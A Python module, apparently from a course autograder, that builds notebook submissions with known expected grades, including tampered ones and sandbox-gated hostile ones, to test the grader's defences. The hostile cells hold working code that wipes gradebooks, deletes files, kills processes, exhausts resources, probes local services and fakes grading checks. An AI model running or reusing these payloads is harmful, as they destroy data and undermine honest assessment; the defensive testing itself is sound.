"""Submissions with known outcomes, in nbgrader's submitted layout, for exercising the autograder.

    python -m servelab_autograder.submissions DIR [assignment ...]

writes ``DIR/<student>/<assignment>/<assignment>.ipynb`` for every chapter (or those named):

    solution              the released notebook with every solution cell filled in (a perfect learner)
    stubs                 the released notebook, untouched
    wrong-<pitfall>       the solution with autograder/known_wrong/<a>/<pitfall>.diff applied
    tamper-<kind>         malformed JSON, another chapter's notebook, a renamed function, an endless loop
                          that swallows KeyboardInterrupt, os._exit(0), a deleted / edited / duplicated /
                          metadata-stripped test cell
    hostile-<kind>        (with --hostile) the solution plus one attack on the grader or the classmates:
                          see :func:`hostile`; armed only inside a grading sandbox

and ``DIR/expected.json``: ``{assignment: {student: {status, score, max_score, below_full, fails,
message, description}}}`` (``score`` is null where only "below full marks" is promised; ``message`` is
text the grader's message must contain; ``fails`` are test cells that must lose points).
"""

from __future__ import annotations

import argparse
import ast
import atexit
import copy
import json
import re
import shutil
import sys
import tempfile
from pathlib import Path

import nbformat

from servelab_autograder import known_wrong as known_wrong_patches
from servelab_autograder.release import chapters, release_notebook, repo_root, source_notebook

SWALLOWING_LOOP = """\
while True:  # tamper: an endless loop that also swallows the grader's KeyboardInterrupt
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""
HARD_EXIT = "import os\nos._exit(0)  # tamper: kill the kernel\n"


# ------------------------------------------------------------------------------------------------
# notebook helpers


def nbgrader_meta(cell) -> dict:
    meta = cell.get("metadata", {}).get("nbgrader")
    return meta if isinstance(meta, dict) else {}


def grade_id(cell) -> str | None:
    return nbgrader_meta(cell).get("grade_id")


def is_solution(cell) -> bool:
    return bool(nbgrader_meta(cell).get("solution"))


def is_test(cell) -> bool:
    meta = nbgrader_meta(cell)
    return bool(meta.get("grade")) and not meta.get("solution")


def points(cell) -> float:
    return float(nbgrader_meta(cell).get("points", 0) or 0)


def max_score(nb) -> float:
    return sum(points(c) for c in nb.cells if nbgrader_meta(c).get("grade"))


strip_solution_markers = known_wrong_patches.strip_solution_markers


_FRESH: dict[tuple[str, str], Path] = {}


def fresh_release(assignment: str, root: Path | None = None) -> Path:
    """The chapter's release notebook as `nbgrader generate_assignment` makes it from solutions/ now, built once per
    process into a temporary folder (no gradebook). Not course/: a learner, or an instructor trying the course as one,
    edits the notebooks there, and the stubs must stay the stubs."""
    root = root or repo_root()
    key = (str(root), assignment)
    if key not in _FRESH or not release_notebook(root, assignment, _FRESH[key]).is_file():
        from servelab_autograder import release
        dest = Path(tempfile.mkdtemp(prefix=f"servelab-stubs-{assignment}-"))
        atexit.register(shutil.rmtree, dest, True)
        failed = release.build_all(root, [assignment], dest)
        if failed:
            raise RuntimeError(f"cannot build the release of {assignment}: {failed[assignment]}")
        _FRESH[key] = dest
    return release_notebook(root, assignment, _FRESH[key])


def load_release(assignment: str, root: Path | None = None):
    """The released notebook, fresh from solutions/ (`fresh_release`)."""
    return nbformat.read(fresh_release(assignment, root), as_version=4)


def load_source(assignment: str, root: Path | None = None):
    return nbformat.read(source_notebook(root or repo_root(), assignment), as_version=4)


def solution_code(assignment: str, root: Path | None = None) -> dict[str, str]:
    """grade_id -> the code a perfect learner puts in that solution cell."""
    return known_wrong_patches.solution_cells(load_source(assignment, root))


def _fresh(nb):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = []
            cell.execution_count = None
    return nb


def complete_submission(assignment: str, root: Path | None = None):
    """The course/ release with every solution cell (matched by grade_id) holding the solution."""
    nb = _fresh(load_release(assignment, root))
    answers = solution_code(assignment, root)
    for cell in nb.cells:
        if is_solution(cell):
            gid = grade_id(cell)
            if gid not in answers:
                raise ValueError(f"{assignment}: released solution cell {gid!r} has no counterpart in solutions/")
            cell.source = answers[gid]
    return nb


# ------------------------------------------------------------------------------------------------
# which tests depend on which code (for the expected outcomes of tamper cases)


def defined_names(source: str) -> set[str]:
    """Top-level names a cell defines (functions, classes, assignments, imports)."""
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return set()
    names = set()
    for node in tree.body:
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
            names.add(node.name)
        elif isinstance(node, ast.Assign | ast.AnnAssign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                names.update(n.id for n in ast.walk(target) if isinstance(n, ast.Name))
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names.update((a.asname or a.name).split(".")[0] for a in node.names)
    return names


def _mentions(source: str, names: set[str]) -> bool:
    return any(re.search(rf"\b{re.escape(n)}\b", source) for n in names)


def affected_tests(assignment: str, broken: set[str], root: Path | None = None) -> list[str]:
    """Test cells that lose their points when the names in ``broken`` are undefined: those that
    use them directly or through a solution cell whose code uses them."""
    src = load_source(assignment, root)
    broken = set(broken)
    changed = True
    while changed:
        changed = False
        for cell in src.cells:
            if is_solution(cell) and _mentions(cell.source, broken):
                new = defined_names(strip_solution_markers(cell.source)) - broken
                if new:
                    broken |= new
                    changed = True
    return [grade_id(c) for c in src.cells if is_test(c) and _mentions(c.source, broken)]


# ------------------------------------------------------------------------------------------------
# known-wrong submissions


def pitfalls(assignment: str, root: Path | None = None) -> list[dict]:
    """The chapter's known-wrong submissions: its patches (``*.diff``, see servelab_autograder.known_wrong)
    applied to the solution."""
    root = root or repo_root()
    answers = solution_code(assignment, root)
    out = []
    for p in known_wrong_patches.pitfalls(root, assignment):
        patched = p.apply(answers)
        out.append({"name": p.name, "replace": {gid: patched[gid] for gid in p.cells}, "fails": list(p.fails),
                    "message": p.says, "description": p.message})
    return out


def known_wrong(assignment: str, root: Path | None = None) -> dict[str, tuple]:
    """pitfall name -> (notebook, pitfall info): the complete submission with REPLACE applied."""
    out = {}
    for info in pitfalls(assignment, root):
        nb = complete_submission(assignment, root)
        for cell in nb.cells:
            if is_solution(cell) and grade_id(cell) in info["replace"]:
                cell.source = info["replace"][grade_id(cell)]
        out[info["name"]] = (nb, info)
    return out


# ------------------------------------------------------------------------------------------------
# tampered submissions


def _neuter_asserts(source: str) -> str:
    """Every assert statement replaced by ``pass`` (same indentation)."""
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return "pass\n"
    lines = source.splitlines()
    asserts = sorted((n for n in ast.walk(tree) if isinstance(n, ast.Assert)), key=lambda n: -n.lineno)
    if not asserts:
        return "pass\n"
    for node in asserts:
        indent = lines[node.lineno - 1][: node.col_offset]
        lines[node.lineno - 1: node.end_lineno] = [indent + "pass"]
    return "\n".join(lines) + "\n"


def _cell_index(nb, gid: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)


def tamper(assignment: str, root: Path | None = None, others: list[str] | None = None) -> dict[str, tuple]:
    """kind -> (notebook or raw text, expected outcome)."""
    root = root or repo_root()
    release = _fresh(load_release(assignment, root))
    full = complete_submission(assignment, root)
    top = max_score(release)
    tests = [grade_id(c) for c in release.cells if is_test(c)]
    answers = solution_code(assignment, root)
    # solution cells with what they define and which tests break without them
    sol = []
    for c in release.cells:
        if is_solution(c):
            names = defined_names(answers[grade_id(c)])
            sol.append((grade_id(c), names, affected_tests(assignment, names, root)))
    out: dict[str, tuple] = {}

    def own_tests(gid: str, affected: list[str]) -> list[str]:
        # The test cell named after an exercise surely loses its points when that exercise breaks;
        # other cells that mention its names may not (a check can pair the rest with the reference),
        # so they are not counted on.
        return [f"test_{gid}"] if f"test_{gid}" in tests else affected

    def expect(status, score=None, message="", fails=(), below=False, what=""):
        return {"status": status, "score": score, "max_score": top, "below_full": below,
                "fails": list(fails), "message": message, "description": what}

    # malformed JSON: the complete notebook cut in half
    text = nbformat.writes(full)
    out["malformed"] = (text[: len(text) // 2], expect("malformed", 0.0, "not a notebook",
                                                       what="truncated JSON"))

    # another chapter's notebook in this chapter's folder (or foreign grade ids when alone)
    other = next((o for o in (others or []) if o != assignment), None)
    if other:
        out["foreign"] = (complete_submission(other, root),
                          expect("wrong-assignment", 0.0, f"this is {other}'s notebook",
                                 what=f"{other}'s complete notebook submitted as {assignment}"))
    else:
        nb = copy.deepcopy(full)
        for cell in nb.cells:
            if grade_id(cell):
                cell.metadata.nbgrader["grade_id"] = "foreign_" + grade_id(cell)
        out["foreign"] = (nb, expect("wrong-assignment", 0.0, f"not {assignment}'s notebook",
                                     what="a notebook whose graded cells belong to no chapter"))

    # a function renamed: pick one whose loss leaves other tests passing, if any
    functions = [(gid, n, affected_tests(assignment, {n}, root)) for gid, names, _ in sol for n in sorted(names)
                 if re.search(rf"^def {re.escape(n)}\(", answers[gid], re.M)]
    functions = [f for f in functions if f[2]]
    if functions:
        gid, name, fails = min(functions, key=lambda f: len(f[2]))
        nb = copy.deepcopy(full)
        cell = nb.cells[_cell_index(nb, gid)]
        cell.source = re.sub(rf"^def {re.escape(name)}\(", f"def {name}_v2(", cell.source, count=1, flags=re.M)
        out["renamed"] = (nb, expect("graded", None, f"NameError: name '{name}' is not defined", own_tests(gid, fails),
                                     below=True, what=f"{name} renamed to {name}_v2"))

    # an endless loop that swallows KeyboardInterrupt, at the top of a solution cell
    if sol:
        candidates = [s for s in reversed(sol) if s[2]] or list(reversed(sol))
        gid, _, fails = min(candidates, key=lambda s: len(s[2]))
        nb = copy.deepcopy(full)
        cell = nb.cells[_cell_index(nb, gid)]
        cell.source = SWALLOWING_LOOP + cell.source
        fails = own_tests(gid, fails)
        out["loop"] = (nb, expect("cell-timeout", None, f"cell {gid}: this cell used more than", fails,
                                  below=bool(fails), what=f"endless loop swallowing KeyboardInterrupt in {gid}"))

        # os._exit(0) in the first solution cell
        gid = sol[0][0]
        nb = copy.deepcopy(full)
        cell = nb.cells[_cell_index(nb, gid)]
        cell.source = HARD_EXIT + cell.source
        fails = own_tests(gid, sol[0][2])
        out["exit"] = (nb, expect("kernel-died", None, f"cell {gid}: the kernel died in it", fails, below=True,
                                  what=f"os._exit(0) in {gid}, graded again without that cell"))

    if tests:
        first = tests[0]
        # a deleted test cell: put back and graded
        nb = copy.deepcopy(full)
        del nb.cells[_cell_index(nb, first)]
        out["deleted-test"] = (nb, expect("repaired", top, f"test cell {first} was missing",
                                          what=f"{first} deleted"))

        # an edited test cell (asserts -> pass) whose solution was never written
        nb = copy.deepcopy(full)
        cell = nb.cells[_cell_index(nb, first)]
        cell.source = _neuter_asserts(cell.source)
        owner = next((s for s in reversed(sol) if _cell_index(full, s[0]) < _cell_index(full, first)), None)
        if owner:
            stub = release.cells[_cell_index(release, owner[0])].source
            nb.cells[_cell_index(nb, owner[0])].source = stub
        fails = [first]   # restored from the release, it runs against the stub
        out["edited-test"] = (nb, expect("repaired", None, f"test cell {first} was edited", fails, below=True,
                                         what=f"{first}'s asserts replaced by pass, its exercise left unsolved"))

        # a duplicated grade cell (JupyterLab copy/paste)
        nb = copy.deepcopy(full)
        i = _cell_index(nb, first)
        twin = copy.deepcopy(nb.cells[i])
        if "id" in twin:
            twin["id"] = (twin["id"] + "-copy")[-64:]
        nb.cells.insert(i + 1, nbformat.from_dict(twin))
        out["duplicated-cell"] = (nb, expect("repaired", top, f"cell {first} appears 2 times",
                                             what=f"{first} pasted twice"))

        # a test cell whose nbgrader metadata was stripped
        last = tests[-1]
        nb = copy.deepcopy(full)
        cell = nb.cells[_cell_index(nb, last)]
        cell.metadata.pop("nbgrader", None)
        cell.metadata.pop("tags", None)
        out["stripped-metadata"] = (nb, expect("repaired", top, f"cell {last} had lost its grading metadata",
                                               what=f"{last}'s nbgrader metadata removed"))
    return out


# ------------------------------------------------------------------------------------------------
# hostile submissions: a learner who has read this repository and wants a better grade, or to hurt a classmate

# Every hostile cell is armed only inside a grading sandbox (which shows the course under /course), so that
# grading these submissions by mistake without one harms nobody; inside, it does its worst and prints one
# "HOSTILE {json}" line saying what it achieved, read by the tests.
ARMED = "import os as _os\nif not _os.path.exists('/course/sandbox_init.py'):\n    raise SystemExit('disarmed')\n"

HOSTILE_REACH = ARMED + '''\
# hostile: find the gradebook, the solutions, the grader's code and the classmates' copies; change what it can
import glob, json, os, sqlite3
known = {known!r}
seen, written, deleted, read = set(), [], [], []
roots = [*known, "/", os.path.expanduser("~"), *(v for v in os.environ.values() if v.startswith("/"))]
for top in roots:
    for dirpath, dirs, files in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or len(seen) > 20000:
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(dirpath, name)
            if path in seen or path.startswith(os.getcwd()):
                continue
            seen.add(path)
            if name.endswith((".db", ".csv", ".ipynb", ".html", ".txt")) or "servelab" in path:
                try:
                    if name.endswith(".db"):
                        con = sqlite3.connect(path)
                        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                        con.execute("UPDATE source_cell SET source = 'raise SystemExit'")
                        con.commit()
                    with open(path, "a") as fh:
                        fh.write("tampered")
                    written.append(path)
                except Exception:
                    pass
                try:
                    os.remove(path)
                    deleted.append(path)
                except Exception:
                    pass
for pattern in ["/tmp/servelab-grade-*/**/*.ipynb", *(k + "/**/*" for k in known)]:
    for path in glob.glob(pattern, recursive=True):
        try:
            read.append(path) if open(path, "rb").read(1) is not None else None
        except Exception:
            pass
print("HOSTILE " + json.dumps({{"written": written, "deleted": deleted, "read": read[:50], "seen": len(seen)}}))
'''

HOSTILE_GRADER_SOURCE = ARMED + '''\
# hostile: make the grader give everyone full marks, for this batch and the next ones
import json, os, nbgrader.utils, servelab, servelab_autograder
targets = [nbgrader.utils.__file__, servelab.__file__, servelab_autograder.__file__, *{known!r}]
written = []
for path in targets:
    try:
        with open(path, "a") as fh:
            fh.write("\\ndef determine_grade(cell, log=None):\\n    return 100, 100\\n")
        written.append(path)
    except Exception:
        pass
print("HOSTILE " + json.dumps({{"written": written}}))
'''

HOSTILE_KILL = ARMED + '''\
# hostile: kill the grader (and everything else it can see), so that the batch dies
import os, signal
for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
'''

HOSTILE_DAEMON = ARMED + '''\
# hostile: a daemon that outlives grading (setsid + double fork), to meddle with later submissions
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(10**6)", "{marker}"], start_new_session=True)
    os._exit(0)
os.wait()
'''

HOSTILE_MEMORY = ARMED + '''\
# hostile: take the machine's memory
hog = bytearray(6 * 2**30)
'''

HOSTILE_FLOOD = ARMED + '''\
# hostile: 100 MB on one line, to blow up the autograded notebook and the feedback page
print("x" * 100_000_000)
'''

HOSTILE_PROCESSES = ARMED + '''\
# hostile: a fork bomb, to starve classmates graded at the same time
import json, threading, time
started = 0
try:
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        started += 1
except Exception as err:
    error = type(err).__name__
else:
    error = None
print("HOSTILE " + json.dumps({"started": started, "error": error}))
'''

HOSTILE_NETWORK = ARMED + '''\
# hostile: send the hidden tests out, or reach a service of the grading machine
import json, socket
reached = []
for host, port in [("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append(f"{host}:{port}")
    except OSError:
        pass
print("HOSTILE " + json.dumps({"reached": reached}))
'''

HOSTILE_DISK = ARMED + '''\
# hostile: fill the grading machine's disk
import json
wrote = 0
try:
    with open("big.bin", "wb") as fh:
        for _ in range(4096):
            fh.write(b"\\0" * 2**20)
            wrote += 2**20
except OSError as err:
    print("HOSTILE " + json.dumps({"wrote_mib": wrote // 2**20, "error": err.strerror}))
'''

EXIT_CALL = "\nexit()  # hostile: end the kernel here\n"
SYS_EXIT_CALL = "\nimport sys\nsys.exit(0)  # hostile: raise SystemExit here\n"
SPIN = "while True:  # load test: computes forever (CPU)\n    pass\n"
SLEEP = "import time\ntime.sleep(10**6)  # load test: waits forever (no CPU)\n"
SPIN_FOR = ("import time\nt = time.process_time()\n"
            "while time.process_time() - t < 2.5:  # load test: 2.5 CPU-seconds\n    pass\n")
HOG = ("import subprocess, sys, time  # load test: 3 x 500 MiB, held\n"
       "hogs = [subprocess.Popen([sys.executable, '-c', 'b = b\"x\" * (500 * 2**20); import time; time.sleep(600)'])\n"
       "        for _ in range(3)]\ntime.sleep(600)\n")
DAEMON_MARKER = "servelab-hostile-daemon"


def _with_cell(nb, source: str, after: int = 0):
    """``nb`` with a learner's own code cell (no grading metadata) inserted after code cell number ``after``."""
    nb = copy.deepcopy(nb)
    codes = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    nb.cells.insert(codes[after] + 1, nbformat.v4.new_code_cell(source))
    return nb


def hostile(assignment: str, root: Path | None = None, known: list[str] | None = None) -> dict[str, tuple]:
    """kind -> (notebook or raw text, expected outcome): the complete solution plus one hostile act each.

    ``known``: host paths an attacker would aim at (the grading output folder, the submissions); the repo's
    own gradebook, solutions and grader source are always among them. Each deserves what its honest part
    earns: full marks, except where the act costs its own exercise (``exit()`` in a solution cell)."""
    root = root or repo_root()
    full = complete_submission(assignment, root)
    top = max_score(full)
    known = [str(root / "autograder"), str(root / "solutions"), str(root / "lib"), *(known or [])]
    tests = [grade_id(c) for c in full.cells if is_test(c)]
    sol = [grade_id(c) for c in full.cells if is_solution(c)]

    def expect(status, score=top, message="", fails=(), what="", keeps=()):
        return {"status": status, "score": score, "max_score": top, "below_full": score is None, "fails": list(fails),
                "message": message, "description": what, "keeps": list(keeps)}

    out = {
        "gradebook": (_with_cell(full, HOSTILE_REACH.format(known=known)),
                      expect("graded", what="rewrites the gradebook, classmates' copies and feedback it can find")),
        "grader-source": (_with_cell(full, HOSTILE_GRADER_SOURCE.format(
            known=[str(p) for p in sorted((root / "autograder" / "servelab_autograder").glob("*.py"))])),
            expect("graded", what="appends a full-marks determine_grade to nbgrader's and the grader's source")),
        "kill": (_with_cell(full, HOSTILE_KILL), expect("kernel-died", message="the kernel died in it",
                                                        what="SIGKILL to its parent, every visible pid and -1")),
        "daemon": (_with_cell(full, HOSTILE_DAEMON.format(marker=DAEMON_MARKER)),
                   expect("graded", what="a setsid + double-fork daemon")),
        "memory": (_with_cell(full, HOSTILE_MEMORY), expect("graded", what="a 6 GiB allocation")),
        "flood": (_with_cell(full, HOSTILE_FLOOD), expect("graded", what="100 MB printed on one line")),
        "processes": (_with_cell(full, HOSTILE_PROCESSES), expect("graded", what="500 threads")),
        "network": (_with_cell(full, HOSTILE_NETWORK), expect("graded", what="connects out and to local services")),
        "disk": (_with_cell(full, HOSTILE_DISK), expect("graded", what="writes 4 GiB into its working folder")),
    }
    if len(sol) >= 2:
        # exit() at the end of a middle solution cell: the cells before it keep their points
        gid = sol[len(sol) // 2]
        nb = copy.deepcopy(full)
        nb.cells[_cell_index(nb, gid)].source += EXIT_CALL
        before = [t for t in tests if _cell_index(full, t) < _cell_index(full, gid)]
        out["exit"] = (nb, expect("kernel-died", None, f"cell {gid} ended the kernel (it called exit() or quit())",
                                  what=f"exit() at the end of {gid}", keeps=before))
        nb = copy.deepcopy(full)
        nb.cells[_cell_index(nb, gid)].source += SYS_EXIT_CALL
        out["sys-exit"] = (nb, expect("graded", message=f"cell {gid} called sys.exit()",
                                      what=f"sys.exit(0) at the end of {gid}"))
    text = nbformat.writes(full).replace('"cells": [', '"cells": [{"cell_type": "markdown", "id": "lone", '
                                         '"metadata": {}, "source": "\\ud800"}, ', 1)
    out["surrogate"] = (text, expect("malformed", 0.0, "lone surrogate", what="JSON holding a lone surrogate escape"))
    from servelab_autograder import verdicts

    if verdicts.table(assignment) is not None:
        out.update(hostile_to_verdicts(assignment, root))
    return out


# Routes around checks that run inside the learner's kernel. Against a chapter graded from a table (verdicts
# made outside the kernel, the chapter's references missing from the sandbox) each earns nothing.
TRANSFORMER = ARMED + """\
# hostile: every later cell becomes `pass`, the hidden tests nbgrader restores included
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""
PATCHED_HELPERS = ARMED + """\
# hostile: every comparison a check could make says yes
import builtins, math
import numpy.testing
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
import servelab_autograder.exercises.{short} as _grade
_grade.diagnose = lambda *a, **k: "correct"
for _name in dir(_grade):
    if _name.startswith("check"):
        setattr(_grade, _name, lambda *a, **k: None)
"""
PATCHED_CHECKER = ARMED + """\
# hostile: a fake checker module, and a probe that answers "all right" with the inputs it was given
import json, sys, types
fake = types.ModuleType("servelab_autograder.exercises.{short}")
fake.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["servelab_autograder.exercises.{short}"] = fake
import servelab_autograder.exercises.probe as probe
from IPython.display import display
def run(request):
    req = json.loads(request)
    calls = [{{"results": [{{"ok": {{"$": "tuple", "v": case}}, "after": case}} for case in c["cases"]]}}
             for c in req.get("calls", [])]
    values = {{n: 1.0 for n in req.get("names", [])}}
    display({{probe.MIME: json.dumps({{"calls": calls, "values": values}})}}, raw=True)
probe.run = run
"""
POISONED_MODULES = ARMED + """\
# hostile: poison the modules a grader would import in this kernel
import sys, types
for name in ["json", "math", "servelab_autograder.exercises.plain", "servelab_autograder.exercises.spec", "nbgrader"]:
    sys.modules[name] = types.SimpleNamespace(__getattr__=lambda n: (lambda *a, **k: True))
"""
READ_SOLUTIONS = ARMED + """\
# hostile: find the solution notebook and run its solution cells here
import glob, json, os
patterns = [{solutions!r} + "/*/*.ipynb", "/*/solutions/*/*.ipynb", "/*/*/solutions/*/*.ipynb",
            "/*/*/*/solutions/*/*.ipynb", "/course/**/*.ipynb", "/scratch/**/*.ipynb"]
found = sorted({{p for pat in patterns for p in glob.glob(pat, recursive=True) if "solutions" in p}})
for path in found:
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]), globals())
print("HOSTILE " + json.dumps({{"found": found}}))
"""
ALWAYS_EQUAL = ARMED + """\
# hostile: every answer is an object equal to everything
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
    def __float__(self):
        return 0.0
    def __getitem__(self, i):
        return self
    def __len__(self):
        return 2
for _name in {names!r}:
    globals()[_name] = lambda *a, _y=Yes(), **k: _y
for _name in {drills!r}:
    globals()[_name] = Yes()
"""


def hostile_to_verdicts(assignment: str, root: Path | None = None) -> dict[str, tuple]:
    """The routes that beat checks run in the learner's kernel, for a chapter whose verdicts are made outside
    it: input transformers, patched comparison helpers, a fake checker module and probe, poisoned modules,
    the reference reached past the old guards (profile hook off, importlib, its source text run), the
    solutions read from disk,
    objects equal to everything. Each scores exactly what its honest part earns."""
    from servelab_autograder import verdicts

    root = root or repo_root()
    chapter = verdicts.table(assignment)
    full = complete_submission(assignment, root)
    stubs = _fresh(load_release(assignment, root))
    top = max_score(full)
    short = assignment[:4]
    worth = {grade_id(c): points(c) for c in full.cells if is_test(c)}
    first_solution = next(grade_id(c) for c in stubs.cells if is_solution(c))

    def expect(score, message="", what="", status="graded"):
        return {"status": status, "score": score, "max_score": top, "below_full": score < top, "fails": [],
                "message": message, "description": what, "keeps": []}

    out = {}
    nb = copy.deepcopy(stubs)
    cell = nb.cells[_cell_index(nb, first_solution)]
    cell.source = TRANSFORMER + cell.source
    out["transformer"] = (nb, expect(0.0, "no answer from your kernel", "an input transformer turns later cells "
                                                                        "into pass, nothing implemented"))
    out["patched-helpers"] = (_with_cell(stubs, PATCHED_HELPERS.format(short=short)),
                              expect(0.0, "NotImplementedError", "isclose, abs, numpy.testing and the check "
                                                                 "helpers patched, nothing implemented"))
    out["patched-checker"] = (_with_cell(stubs, PATCHED_CHECKER.format(short=short)),
                              expect(0.0, "", "a fake checker module and a probe that says yes, nothing "
                                              "implemented"))
    out["poisoned-modules"] = (_with_cell(stubs, POISONED_MODULES),
                               expect(0.0, "", "json, math and the grader's modules poisoned, nothing implemented"))
    out["read-solutions"] = (_with_cell(stubs, READ_SOLUTIONS.format(solutions=str(root / "solutions"))),
                             expect(0.0, "NotImplementedError", "runs the solution notebook's cells if it can "
                                                                "find one, nothing implemented"))
    names = [ex.spec.name for ex in chapter.exercises]
    drills = [d.name for d in chapter.drills.drills] if chapter.drills else []
    out["always-equal"] = (_with_cell(stubs, ALWAYS_EQUAL.format(names=names, drills=drills)),
                           expect(0.0, "", "every function returns an object equal to everything"))
    # the reference, reached past the old guards: only the exercises that use it lose their points
    ex = chapter.exercises[0]
    ref_module = chapter.references[0].split(":")[0]
    def using(name: str) -> list[str]:  # the graded cells that call the learner's ``name``
        return [c for c, g in chapter.cells.items()
                if isinstance(g, verdicts.Exercise) and name in [g.spec.name, *(r.other.name for r in g.relations)]]

    nb = copy.deepcopy(full)
    cell = nb.cells[_cell_index(nb, ex.spec.name)]
    cell.source += (f"\n\nimport sys\nsys.setprofile = lambda *a, **k: None  # hostile: switch a profile watch off\n"
                    f"import {ref_module} as _ref\n"
                    f"{ex.spec.name} = lambda *args: _ref.{ex.spec.name}(*args)  # hostile: the reference\n")
    out["no-profile-reference"] = (nb, expect(top - sum(worth[c] for c in using(ex.spec.name)),
                                              "not available while grading",
                                              f"{ex.spec.name} calls the reference with the profile hook off"))
    last = chapter.exercises[-1]
    nb = copy.deepcopy(full)
    cell = nb.cells[_cell_index(nb, last.spec.name)]
    cell.source += (f"\n\nimport importlib  # hostile: the reference by a name no scan sees\n"
                    f"{last.spec.name} = getattr(importlib.import_module({ref_module!r}), {last.spec.name!r})\n")
    out["importlib-reference"] = (nb, expect(top - sum(worth[c] for c in using(last.spec.name)),
                                             "not available while grading",
                                             f"{last.spec.name} is the reference, reached through importlib"))
    nb = copy.deepcopy(full)
    cell = nb.cells[_cell_index(nb, ex.spec.name)]
    cell.source += (f"\n\nimport importlib, pathlib  # hostile: the reference rebuilt from the library's source\n"
                    f"_src = pathlib.Path(importlib.import_module({ref_module!r}).__file__).read_text()\n"
                    f"_ns = {{'__name__': 'mine'}}\nexec(compile(_src, 'mine', 'exec'), _ns)\n"
                    f"{ex.spec.name} = _ns[{ex.spec.name!r}]\n")
    out["source-reference"] = (nb, expect(top - sum(worth[c] for c in using(ex.spec.name)),
                                          "not available while grading",
                                          f"{ex.spec.name} is the library's source text run in a namespace"))
    return out


def load_test(assignment: str, root: Path | None = None) -> dict[str, object]:
    """Complete notebooks with one learner's cell that runs into a limit, for a grader run with small limits:
    ``spin`` computes forever (the cell's CPU limit), ``sleep`` waits forever (the wall-clock backstop),
    ``hog`` holds 1.5 GiB in three processes (the sandbox's memory limit), ``slow`` spends 2.5 CPU-seconds in
    each of ten cells (the notebook's CPU limit)."""
    full = complete_submission(assignment, root)
    slow = full
    for _ in range(10):
        slow = _with_cell(slow, SPIN_FOR)
    return {"spin": _with_cell(full, SPIN), "sleep": _with_cell(full, SLEEP), "hog": _with_cell(full, HOG),
            "slow": slow}


# ------------------------------------------------------------------------------------------------


def all_submissions(assignment: str, root: Path | None = None, others: list[str] | None = None) -> dict:
    """student id -> (notebook or raw text, expected outcome) for one chapter."""
    root = root or repo_root()
    release = _fresh(load_release(assignment, root))
    top = max_score(release)
    subs = {
        "solution": (complete_submission(assignment, root),
                     {"status": "graded", "score": top, "max_score": top, "below_full": False, "fails": [],
                      "message": "", "description": "every solution cell filled from solutions/"}),
        "stubs": (release, {"status": "graded", "score": 0.0, "max_score": top, "below_full": True, "fails": [],
                            "message": "NotImplementedError", "description": "the release, unchanged"}),
    }
    for name, (nb, info) in known_wrong(assignment, root).items():
        subs[f"wrong-{name}"] = (nb, {"status": "graded", "score": None, "max_score": top, "below_full": True,
                                      "fails": info["fails"], "message": info["message"],
                                      "description": info["description"]})
    for kind, (nb, exp) in tamper(assignment, root, others).items():
        subs[f"tamper-{kind}"] = (nb, exp)
    return subs


def write_one(directory: Path, student: str, assignment: str, nb) -> Path:
    """``directory/<student>/<assignment>/<assignment>.ipynb`` holding ``nb`` (a notebook or raw text)."""
    path = Path(directory) / student / assignment / f"{assignment}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nb if isinstance(nb, str) else nbformat.writes(nb), encoding="utf-8")
    return path


def write_submissions(directory: Path, assignments: list[str] | None = None, root: Path | None = None,
                      with_hostile: bool = False, known: list[str] | None = None) -> dict:
    """Write every submission of every chapter into ``directory`` (with ``with_hostile``, the hostile ones
    too, aimed at ``known`` paths besides the repository and ``directory``); returns (and writes) expected.json."""
    root = root or repo_root()
    chapters_released = [a for a in chapters(root) if release_notebook(root, a).is_file()]
    assignments = assignments or chapters_released
    directory = Path(directory)
    expected: dict[str, dict] = {}
    for a in assignments:
        expected[a] = {}
        subs = all_submissions(a, root, chapters_released)
        if with_hostile:
            subs.update({f"hostile-{k}": v for k, v in
                         hostile(a, root, [str(directory.resolve()), *(known or [])]).items()})
        for student, (nb, exp) in subs.items():
            write_one(directory, student, a, nb)
            expected[a][student] = exp
    (directory / "expected.json").write_text(json.dumps(expected, indent=1) + "\n", encoding="utf-8")
    return expected


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m servelab_autograder.submissions", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("directory", type=Path, help="where to write <student>/<assignment>/<assignment>.ipynb")
    parser.add_argument("assignments", nargs="*", help="chapters (default: all)")
    parser.add_argument("--hostile", action="store_true",
                        help="also the hostile submissions (armed only inside a grading sandbox)")
    args = parser.parse_args(argv)
    known = chapters()
    unknown = [a for a in args.assignments if a not in known]
    if unknown:
        print(f"unknown chapter(s): {', '.join(unknown)}", file=sys.stderr)
        return 2
